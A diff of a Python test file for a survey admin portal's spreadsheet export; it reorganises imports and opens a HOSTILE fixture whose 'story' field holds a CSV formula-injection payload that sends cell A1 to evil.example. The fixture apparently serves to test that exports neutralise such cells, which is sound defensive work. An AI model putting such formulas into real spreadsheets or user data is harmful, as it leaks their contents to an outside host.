@@ -17,14 +17,19 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from admin import render
-from admin.portal import answer_finding, answers_csv
+from admin.portal.answers import answer_finding, answers_csv
+from admin.reports import render
 from survey.models import Organisation, db
 from survey.spreadsheet import rows_csv, safe_cell
-
-from ..admin.test_auth import csrf, make_user, sign_in_enrolled
-from ..admin.test_publish import unlocked_analyst
-from ..conftest import Respondent, sample_report, small_survey_document
+from tests.factories import (
+    Respondent,
+    csrf,
+    make_user,
+    sample_report,
+    sign_in_enrolled,
+    small_survey_document,
+    unlocked_analyst,
+)
 
 HOSTILE = {
     "story": '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
